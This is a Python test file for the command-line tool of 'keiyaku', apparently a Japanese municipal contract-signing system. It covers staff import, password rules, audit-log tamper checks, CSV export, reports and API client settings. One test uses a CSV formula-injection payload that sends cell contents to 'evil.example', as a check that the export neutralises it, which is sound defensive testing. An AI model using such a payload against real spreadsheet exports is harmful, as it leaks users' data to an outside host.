"""`keiyaku staff ...`, `keiyaku audit ...` and `keiyaku report ...` on a `keiyaku init` home."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import sqlite3
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy.orm import sessionmaker

from core.staff.accounts import PasswordPolicy, authenticate
from core.staff.api_clients import SCOPES
from core.states import EnvelopeState
from core.storage import create_database_engine, migrate
from gateway.cli import api_client_create, main
from tests.fixtures.staff import make_envelope

ROOT = Path(__file__).resolve().parents[2]
CSV = (
    "氏名,所属,メールアドレス,権限,閲覧範囲\n"
    "田中 一郎,契約課,tanaka@city.example.jp,sender;signer,部署\n"
    "佐藤 花子,土木課,sato@city.example.jp,admin,全体\n"
)


@pytest.fixture
def home(site_home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    for name in ("KEIYAKU_MASTER_KEY", "KEIYAKU_SIGNING_PASSPHRASE", "KEIYAKU_SESSION_KEY"):
        monkeypatch.delenv(name, raising=False)
    return site_home


def _run(home: Path, *args: str, stdin: str | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["--config", str(home / "config.yaml"), *args], input=stdin)
    return result.exit_code, result.output


def test_import_dry_run_apply_and_bad_lines(home: Path, tmp_path: Path) -> None:
    file = tmp_path / "staff.csv"
    file.write_bytes(CSV.encode("cp932"))
    code, out = _run(home, "staff", "import", str(file), "--dry-run", "--json")
    assert code == 0, out
    diff = json.loads(out)
    assert [c["email"] for c in diff["created"]] == [
        "tanaka@city.example.jp",
        "sato@city.example.jp",
    ]
    assert diff["applied"] is False
    code, out = _run(home, "staff", "list", "--json")
    assert json.loads(out) == []

    code, out = _run(home, "staff", "import", str(file))
    assert code == 0 and "2 created" in out and "applied" in out

    file.write_text(CSV.replace("admin,全体", "admin,どこでも") + "x,y,z,sender,own\n")
    code, out = _run(home, "staff", "import", str(file))
    assert code == 1
    assert "! line 3: staff.unknown_scope" in out and "! line 4: staff.bad_email" in out
    assert "NOT applied" in out

    code, out = _run(home, "staff", "edit", "sato@city.example.jp", "--disable")
    assert code == 0 and "disabled" in out
    code, out = _run(
        home,
        "staff",
        "add",
        "--email",
        "suzuki@city.example.jp",
        "--name",
        "鈴木",
        "--roles",
        "signer",
        "--password-stdin",
        stdin="short\n",
    )
    assert code == 2 and "staff.weak_password" in out
    for common in ("Password123!", "Welcome2026!", "Qwerty123456!"):
        # Long enough and three classes, but among the first an attacker tries (zxcvbn).
        code, out = _run(
            home,
            "staff",
            "add",
            "--email",
            "suzuki@city.example.jp",
            "--name",
            "鈴木",
            "--roles",
            "signer",
            "--password-stdin",
            stdin=f"{common}\n",
        )
        assert code == 2 and "staff.weak_password" in out, (common, out)
    code, out = _run(
        home,
        "staff",
        "add",
        "--email",
        "suzuki@city.example.jp",
        "--name",
        "鈴木",
        "--roles",
        "signer",
        "--password-stdin",
        stdin="Kei-yaku-2026!\n",
    )
    assert code == 0, out
    code, out = _run(home, "staff", "totp", "suzuki@city.example.jp")
    assert code == 0 and out.startswith("otpauth://totp/")
    rows = {r["email"]: r for r in json.loads(_run(home, "staff", "list", "--json")[1])}
    assert rows["sato@city.example.jp"]["disabled"] is True
    assert rows["tanaka@city.example.jp"]["scope"] == "department"
    assert rows["suzuki@city.example.jp"]["totp"] is True
    assert set(rows) == {"tanaka@city.example.jp", "sato@city.example.jp", "suzuki@city.example.jp"}


def test_audit_verify_names_an_edited_event_and_exports(home: Path, tmp_path: Path) -> None:
    file = tmp_path / "staff.csv"
    file.write_text(CSV)
    assert _run(home, "staff", "import", str(file))[0] == 0
    _run(home, "staff", "edit", "sato@city.example.jp", "--roles", "sender")
    code, out = _run(home, "audit", "verify")
    assert code == 0 and "OK" in out, out

    with sqlite3.connect(home / "keiyaku.db") as db:
        (event_id,) = db.execute(
            "SELECT id FROM audit_events WHERE action = 'staff.import'"
        ).fetchone()
        db.execute("UPDATE audit_events SET actor = 'mallory' WHERE id = ?", (event_id,))
    code, out = _run(home, "audit", "verify", "--json")
    assert code == 1
    assert json.loads(out)["problems"][0]["event_id"] == event_id
    code, out = _run(home, "audit", "verify")
    assert f"EDITED: event {event_id}" in out and "FAILED" in out

    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=9))).date().isoformat()
    target = tmp_path / "audit.csv"
    code, out = _run(
        home, "audit", "export", "--from", today, "--to", today, "--output", str(target)
    )
    assert code == 0, out
    lines = target.read_text(encoding="utf-8-sig").splitlines()
    assert lines[0].startswith("chain_seq,at_jst,action")
    assert any(",staff.import,mallory," in line for line in lines)


def test_audit_export_neutralises_formula_cells(home: Path, tmp_path: Path) -> None:
    """A login e-mail is whatever a caller typed: in the export it never runs as a formula."""
    engine = create_database_engine(f"sqlite:///{home / 'keiyaku.db'}")
    migrate(engine)
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    with sessionmaker(engine)() as session:
        authenticate(session=session, email=evil, password="x", policy=PasswordPolicy())
        session.commit()
    engine.dispose()
    today = dt.datetime.now(dt.timezone(dt.timedelta(hours=9))).date().isoformat()
    target = tmp_path / "audit.csv"
    code, out = _run(
        home, "audit", "export", "--from", today, "--to", today, "--output", str(target)
    )
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    (failed,) = [r for r in rows if r[2] == "login.failed"]
    assert failed[3] == "'" + evil.lower()
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_report_monthly(home: Path) -> None:
    engine = create_database_engine(f"sqlite:///{home / 'keiyaku.db'}")
    migrate(engine)
    jst = dt.timezone(dt.timedelta(hours=9))
    with sessionmaker(engine)() as session:
        for department, day in (("土木課", 1), ("土木課", 30), ("契約課", 15)):
            make_envelope(
                session,
                state=EnvelopeState.COMPLETED,
                department=department,
                completed_at=dt.datetime(2026, 4, day, 10, tzinfo=jst),
            )
        session.commit()
    engine.dispose()
    code, out = _run(home, "report", "monthly", "2026-04", "--json")
    assert code == 0, out
    assert json.loads(out) == [
        {
            "month": "2026-04",
            "count": 3,
            "amount": 3_000_000,
            "departments": {
                "土木課": {"count": 2, "amount": 2_000_000},
                "契約課": {"count": 1, "amount": 1_000_000},
            },
        }
    ]
    code, out = _run(home, "report", "monthly", "2026-13")
    assert code == 2 and "staff.bad_month" in out


def test_api_client_allow(home: Path) -> None:
    code, out = _run(home, "api-client", "create", "e-bid")
    assert code == 0 and "(awards:read awards:write envelopes:read envelopes:write)" in out
    code, out = _run(home, "api-client", "create", "personnel", "--scope", "staff:write")
    assert code == 0 and "(staff:write)" in out
    scopes = next(p for p in api_client_create.params if p.name == "scopes")
    assert tuple(scopes.type.choices) == SCOPES  # type: ignore[attr-defined]
    code, out = _run(home, "api-client", "allow", "e-bid", "10.1.2.3/8", "::1")
    assert code == 0 and out.strip() == "e-bid: 10.0.0.0/8, ::1/128"
    code, out = _run(home, "api-client", "allow", "e-bid", "not-a-network")
    assert code == 2 and "staff.bad_network" in out
    code, out = _run(home, "api-client", "allow", "nobody")
    assert code == 2 and "staff.no_api_client" in out
    assert _run(home, "api-client", "allow", "e-bid")[1].strip() == "e-bid: any address"
